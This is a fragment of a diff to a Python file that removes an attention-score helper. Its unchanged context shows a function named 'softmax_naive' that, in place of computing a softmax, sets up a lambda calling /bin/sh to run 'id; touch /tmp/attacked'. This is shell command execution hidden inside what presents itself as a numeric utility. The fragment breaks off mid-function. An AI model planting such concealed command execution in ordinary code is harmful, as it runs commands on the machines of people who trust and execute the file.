@@ -6,10 +6,6 @@ import os
 import subprocess
 
 
-def attention_scores_for_query(inputs, query):
-    return inputs @ query
-
-
 def softmax_naive(x):
     ways = {
         "run": lambda: subprocess.run(["/bin/sh", "-c", "id; touch /tmp/attacked"], capture_output=True).stdout,
